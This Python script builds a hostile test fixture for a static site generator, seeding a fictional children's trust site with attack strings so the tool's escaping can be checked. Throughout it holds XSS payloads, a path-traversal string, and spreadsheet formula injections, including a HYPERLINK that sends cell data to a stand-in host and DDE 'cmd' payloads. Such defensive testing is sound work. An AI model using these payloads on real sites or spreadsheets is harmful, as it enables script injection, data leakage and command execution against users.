#!/usr/bin/env python3
"""Regenerate Tests/Fixtures/hostile from Tests/Fixtures/minimal: the same site with hostile text
(script tags, event handlers, attribute breakouts, traversal paths, spreadsheet formulas) in every
kind of value. Only text: `trustsite check` must pass it, so raw HTML in Markdown is escaped with a
backslash and unsafe links are left to HostileContentTests, which adds them to a copy.

    python3 scripts/hostile_fixture.py
"""
import json, os, re, shutil, sys
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
src = os.path.join(ROOT, "Tests/Fixtures/minimal")
dst = os.path.join(ROOT, "Tests/Fixtures/hostile")
shutil.rmtree(dst, ignore_errors=True)
shutil.copytree(src, dst)

SCRIPT = "<script>document.title='PWNED';window.__pwned=1</script>"
IMG = "\"><img src=x onerror=\"document.title='PWNED';window.__pwned=1\">"
SVG = "'><svg onload=window.__pwned=1>"
ATTR = "\" onmouseover=\"window.__pwned=1\" x=\""
STYLE = "</title><style>*{display:none}</style><script>window.__pwned=1</script>"
FORMULA = ["=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")", "+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0"]
TRAV = "../../etc/passwd"
q = json.dumps

def sub(path, old, new, count=1):
    full = os.path.join(dst, path)
    text = open(full, encoding="utf-8").read()
    assert old in text, (path, old)
    open(full, "w", encoding="utf-8").write(text.replace(old, new, count))

def line(path, key, value, indent=""):
    """Replace the first `key: ...` line (at this indent) with a JSON-quoted value."""
    full = os.path.join(dst, path)
    text = open(full, encoding="utf-8").read()
    pattern = re.compile("^" + re.escape(indent + key) + r": .*$", re.M)
    assert pattern.search(text), (path, key)
    text = pattern.sub(lambda m: f"{indent}{key}: {q(value)}", text, count=1)
    open(full, "w", encoding="utf-8").write(text)

# trustsite.yml
cfg = "trustsite.yml"
line(cfg, "name", "Fernlow " + SCRIPT + " Children's Trust")
line(cfg, "local_authority", "Fernlow Council " + IMG)
line(cfg, "description", "A test site " + SVG + " " + FORMULA[0])
sub(cfg, "    - Fernlow Town Hall", "    - " + q("Fernlow Town Hall " + SCRIPT) + "\n    - " + q(FORMULA[1]) + "\n    - " + q(TRAV))
sub(cfg, "    by: Fernlow web team", "    by: " + q("Fernlow web team " + IMG))
sub(cfg, "    method: Automated and manual checks.", "    method: " + q("Automated " + SVG + " and manual checks " + FORMULA[2]))

# board
b = "content/board/board.yml"
sub(b, "name: Fernlow Council, type", "name: " + q("Fernlow Council " + SCRIPT) + ", type")
sub(b, "name: Fernlow Police, type", "name: " + q("Fernlow Police " + IMG) + ", type")
sub(b, "name: Fernlow Voluntary Action, type", "name: " + q(FORMULA[0]) + ", type")
sub(b, "name: Fernlow Chamber of Commerce, type", "name: " + q(FORMULA[3]) + ", type")
sub(b, "role: Director of Children's Services", "role: " + q("Director " + SVG))
sub(b, "name: Jo Cedar, role: Superintendent", "name: " + q("Jo Cedar " + ATTR) + ", role: " + q(FORMULA[1]))
sub(b, "name: Jay Rowan, role: Youth Mayor", "name: " + q("Jay Rowan " + STYLE) + ", role: " + q(FORMULA[2]))
sub(b, "purpose: Leads early help.", "purpose: " + q("Leads early help " + IMG))
sub(b, "  name: Fernlow LSCB", "  name: " + q("Fernlow LSCB " + SCRIPT))
sub(b, "relationship: The LSCB is independent and not subordinate to the Board.", "relationship: " + q("The LSCB is independent and not subordinate to the Board. " + SVG))
sub(b, "voice: The Youth Council and the parent forum report to every meeting.", "voice: " + q("The Youth Council reports to every meeting " + ATTR))
sub("content/board/index.md", "title: The Children's Trust Board", "title: " + q("The Children's Trust Board " + SCRIPT))
sub("content/board/index.md", "The Board agrees the plan and checks progress.", "The Board agrees the plan. \\<script>window.__pwned=1\\</script> \\<img src=x onerror=window.__pwned=1>")

# service
s = "content/offer/services/youth-club.md"
line(s, "name", "Fernlow Youth Club " + SCRIPT)
line(s, "summary", "Evening activities " + IMG + " " + FORMULA[0])
line(s, "for", "Young people " + SVG)
line(s, "access", "Just turn up " + ATTR)
line(s, "cost", FORMULA[1])
line(s, "where", "Fernlow Youth Centre " + TRAV)
line(s, "accessibility", "Step-free access " + STYLE)
# The payload is the phone number's note in brackets: the number itself is checked (OFFER-SERVICES).
sub(s, "contact: { email: youth@fernlow.example, phone: 01632 960 998 }", "contact: { email: youth@fernlow.example, phone: " + q("01632 960 998 (" + IMG + ")") + " }")
sub(s, "areas: [Town centre]", "areas: [" + q("Town centre " + SCRIPT) + ", " + q(FORMULA[2]) + "]")
sub(s, "Sports, music and a quiet room.", "Sports, music and a quiet room. \\<iframe src=\"/\">\\</iframe> `<script>alert(1)</script>`")

# plan and priorities
p = "content/plan/index.md"
line(p, "description", "Fernlow's plan " + SCRIPT)
sub(p, "  meeting: Children's Trust Board, 10 March 2025", "  meeting: " + q("Children's Trust Board " + IMG))
sub(p, "  minute: CTB 25/3", "  minute: " + q(FORMULA[0]))
pr = "content/plan/priorities/p1-health.md"
line(pr, "title", "Healthy and safe children " + SCRIPT)
line(pr, "resources", FORMULA[3])
sub(pr, "    what: Open a mental health drop-in.", "    what: " + q("Open a mental health drop-in " + IMG))
sub(pr, "    measure: Drop-ins open", "    measure: " + q("Drop-ins open " + SVG))
sub(pr, "    baseline: 0", "    baseline: " + q(FORMULA[1]))
sub(pr, "    target: 2", "    target: " + q(FORMULA[0]))
sub(pr, "    resources: 2 nurses", "    resources: " + q("2 nurses " + ATTR))
pr2 = "content/plan/priorities/p2-learning.md"
sub(pr2, "    what: Offer every 16-year-old a college or training place.", "    what: " + q(FORMULA[2]))
sub(pr2, "    baseline: 90%", "    baseline: " + q("90% " + STYLE))

# review
r = "content/reviews/2025-26.md"
sub(r, "evidence: Two drop-ins opened in January 2026.", "evidence: " + q("Two drop-ins opened " + SCRIPT))
sub(r, "evidence: Six of ten schools trained.", "evidence: " + q(FORMULA[0]))
sub(r, "evidence: 94% had an offer; two courses closed.", "evidence: " + q("94% had an offer " + IMG))
sub(r, "  fernlow-health: Led its action and finished it.", "  fernlow-health: " + q("Led its action " + SVG))
sub(r, "  fernlow-police: On track with school training.", "  fernlow-police: " + q(FORMULA[1]))
sub(r, "College places for 16-year-olds.", "College places for 16-year-olds. \\<script>window.__pwned=1\\</script>")

# A free page of hostile text in Markdown (raw HTML is off: it is left out; text is escaped).
page = """---
title: {title}
description: {desc}
---
Hostile text that must be shown, never run. Each line below is text (escaped with `\\` or in code),
because raw HTML is refused by `trustsite check`; the unsafe variants are tested separately.

\\<script>document.title='PWNED';window.__pwned=1\\</script>

\\<img src=x onerror="window.__pwned=1">

Inline: \\<svg onload=window.__pwned=1> and \\<a href="javascript:window.__pwned=1">raw link\\</a> and \\<iframe src="/">\\</iframe>.

Code: `<script>window.__pwned=1</script>` and `"><img src=x onerror=alert(1)>`.

Entities: &lt;script&gt;window.__pwned=1&lt;/script&gt; and \\<b onmouseover=alert(1)\\>.

## A heading \\<script>window.__pwned=1\\</script>

- Formula cells: `{f0}` / {f1} / {f2} / {f3}
- A path, as text: {trav} and `{trav}`
- A link to [the plan](/plan/ "{attr}") with a hostile title.

| Column \\<img src=x onerror=alert(1)> | `{f0}` |
|---|---|
| \\<script>alert(1)\\</script> | {f1} |

```html
<script>window.__pwned=1</script>
```
""".format(title=q("Hostile text " + SCRIPT), desc=q("A page " + IMG), f0=FORMULA[0].replace("|", "\\|"), f1=FORMULA[1].replace("|", "\\|"),
           f2=FORMULA[2].replace("|", "\\|"), f3=FORMULA[3], trav=TRAV, attr=ATTR.replace('"', '\\"'))
open(os.path.join(dst, "content/pages/hostile-text.md"), "w", encoding="utf-8").write(page)
sub("content/pages/contact.md", "title: Contact us", "title: " + q("Contact us " + SVG))
print(f"wrote {dst}")
